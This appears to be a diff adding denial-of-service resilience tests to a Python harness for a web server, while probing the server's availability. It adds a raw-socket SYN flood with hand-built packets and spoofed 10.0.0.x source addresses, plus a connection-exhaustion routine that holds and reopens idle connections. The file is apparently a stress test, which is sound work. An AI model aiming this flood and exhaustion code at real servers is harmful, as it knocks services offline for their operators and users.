@@ -241,6 +241,126 @@ def cmd_frames(args):
     out({"sent": sent})
 
 
+def probe_loop(stop, results, every=0.05, timeout=1.0):
+    """GET / every `every` seconds from BW_PROBE_IP (a second host address) until `stop`
+    is set; each probe's (ok, seconds) goes to `results`."""
+    src = os.environ.get("BW_PROBE_IP")
+    while not stop.is_set():
+        t0 = time.time()
+        ok = False
+        try:
+            c = http.client.HTTPConnection(SERVER, PORT, timeout=timeout,
+                                           source_address=(src, 0) if src else None)
+            st, _, _ = fetch(c, "/")
+            c.close()
+            ok = st == 200
+        except (OSError, http.client.HTTPException):
+            pass
+        results.append((ok, round(time.time() - t0, 3)))
+        time.sleep(max(0.0, every - (time.time() - t0)))
+
+
+def probe_report(results):
+    ok = [t for good, t in results if good]
+    return {"probes": len(results), "probes_ok": len(ok),
+            "probe_max_s": max((t for _, t in results), default=None)}
+
+
+def cmd_synflood(args):
+    """synflood IFNAME DST_MAC N SECONDS: N SYNs from spoofed addresses 10.0.0.10-249 and
+    random ports, sent through a raw socket on IFNAME within SECONDS at most, while a probe
+    fetches / every 50 ms (1 s timeout), and for 2 s after the flood."""
+    ifname, dst_mac = args[0], bytes.fromhex(args[1].replace(":", ""))
+    n, limit = int(args[2]), float(args[3])
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    s.bind((ifname, 0))
+    src_mac = s.getsockname()[4]
+    dst_ip = socket.inet_aton(SERVER)
+    rnd = __import__("random").Random(99)
+
+    def csum(b):
+        if len(b) % 2:
+            b += b"\0"
+        s_ = sum(struct.unpack(f"!{len(b)//2}H", b))
+        while s_ >> 16:
+            s_ = (s_ & 0xFFFF) + (s_ >> 16)
+        return (~s_) & 0xFFFF
+
+    def syn(src_ip, sport, seq):
+        h = struct.pack("!HHIIBBHHH", sport, PORT, seq, 0, 6 << 4, 0x02, 64240, 0, 0)
+        h += b"\x02\x04\x05\xb4"  # MSS 1460
+        c = csum(src_ip + dst_ip + struct.pack("!BBH", 0, 6, len(h)) + h)
+        h = h[:16] + struct.pack("!H", c) + h[18:]
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(h), 1, 0x4000, 64, 6, 0, src_ip, dst_ip)
+        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+        return dst_mac + src_mac + b"\x08\x00" + ip + h
+
+    results, stop = [], threading.Event()
+    t = threading.Thread(target=probe_loop, args=(stop, results))
+    t.start()
+    time.sleep(0.3)
+    start = time.time()
+    sent = 0
+    while sent < n and time.time() - start < limit:
+        src_ip = bytes([10, 0, 0, 10 + rnd.randrange(240)])
+        try:
+            s.send(syn(src_ip, rnd.randrange(1024, 65535), rnd.randrange(1 << 32)))
+            sent += 1
+        except OSError:
+            time.sleep(0.001)
+    flood_s = time.time() - start
+    time.sleep(2.0)
+    stop.set()
+    t.join()
+    out({"sent": sent, "flood_s": round(flood_s, 3), **probe_report(results)})
+
+
+def cmd_silent(args):
+    """silent N SECONDS: holds up to N connections that send nothing for SECONDS, opening a
+    new one whenever one is closed or refused (churn), while a probe fetches / every 50 ms
+    from BW_PROBE_IP (1 s timeout)."""
+    import resource
+    import selectors
+    n, secs = int(args[0]), float(args[1])
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, n + 256)), hard))
+    sel = selectors.DefaultSelector()
+    opened = closed = 0
+
+    def open_one():
+        nonlocal opened
+        c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        c.setblocking(False)
+        c.connect_ex((SERVER, PORT))
+        sel.register(c, selectors.EVENT_READ)
+        opened += 1
+
+    results, stop = [], threading.Event()
+    t = threading.Thread(target=probe_loop, args=(stop, results))
+    t.start()
+    end = time.time() + secs
+    for _ in range(n):
+        open_one()
+    while time.time() < end:
+        for key, _ in sel.select(timeout=0.1):
+            c = key.fileobj
+            try:
+                data = c.recv(4096)
+            except OSError:
+                data = b""
+            if not data:  # closed, reset or refused: reconnect at once
+                sel.unregister(c)
+                c.close()
+                closed += 1
+                if time.time() < end:
+                    open_one()
+    stop.set()
+    t.join()
+    for key in list(sel.get_map().values()):
+        key.fileobj.close()
+    out({"opened": opened, "closed": closed, **probe_report(results)})
+
+
 def cmd_inject(args):
     """inject IFNAME DST_MAC: opens a real connection, then injects RST and SYN segments
     with wrong sequence numbers into it through a raw socket; the connection must survive
